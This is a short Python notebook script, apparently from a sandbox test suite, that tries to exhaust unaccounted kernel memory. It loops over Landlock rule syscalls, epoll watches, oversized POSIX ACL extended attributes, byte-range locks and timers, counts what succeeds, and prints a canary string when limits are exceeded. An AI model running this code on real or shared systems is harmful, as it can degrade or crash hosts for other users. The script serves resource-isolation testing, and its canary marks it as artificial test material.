# ---
# jupyter:
#   attack: {harm: "it would take the kernel's memory, which no limit of a process counts"}
# ---

# %% [markdown]
# Lets the kernel remember things without end: rules of Landlock, watched files, access lists, locks of single bytes, timers.

# %%
import ctypes
import fcntl
import os
import select
import struct

libc = ctypes.CDLL(None, use_errno=True)
made = {}


def count(name, step, most=4000):
    """Do a step again and again, and write down how often that went well."""
    made[name] = 0
    try:
        while made[name] < most and step(made[name]) is not False:
            made[name] += 1
    except OSError as error:
        print(name, error)


rules = libc.syscall(444, struct.pack("<QQ", 0, 3), 16, 0)
count("rules", lambda i: rules >= 0 and libc.syscall(445, rules, 2, struct.pack("<QQ", 1, i), 0) == 0)

ends = os.pipe()


def watch(i):
    watching.register(os.dup2(ends[0], 100 + i % 300), 1)


try:
    watching = select.epoll()
    count("watches", watch)
except OSError as error:
    print(error)

rights = b"".join(struct.pack("<HHI", 2, 7, os.getuid()) for _ in range(8000))
rest = b"".join(struct.pack("<HHI", tag, 7, 0xFFFFFFFF) for tag in (4, 0x10, 0x20))
access_list = struct.pack("<IHHI", 2, 1, 7, 0xFFFFFFFF) + rights + rest


def remember_rights(i):
    os.mkdir(f"folder{i}")
    os.setxattr(f"folder{i}", "system.posix_acl_access", access_list)


count("access lists", remember_rights, 100)

locked, looking = open("locked", "w"), []
count("locks", lambda i: fcntl.lockf(locked, fcntl.LOCK_EX, 1, 2 * i))
timer = ctypes.c_void_p()
count("timers", lambda i: libc.timer_create(1, None, ctypes.byref(timer)) == 0)

held = struct.pack("hhqqi4x", fcntl.F_WRLCK, os.SEEK_SET, 0, 1, 0)
if os.fork() == 0:
    _, _, _, _, owner = struct.unpack("hhqqi4x", fcntl.fcntl(locked, fcntl.F_GETLK, held))
    os._exit(owner != 0)
if not os.waitstatus_to_exitcode(os.wait()[1]):
    del made["locks"]  # said to be done, and not kept
print(made)
if max(made.values()) >= 1000 or made["access lists"]:
    print("canary" + "-memory-2a90f3")
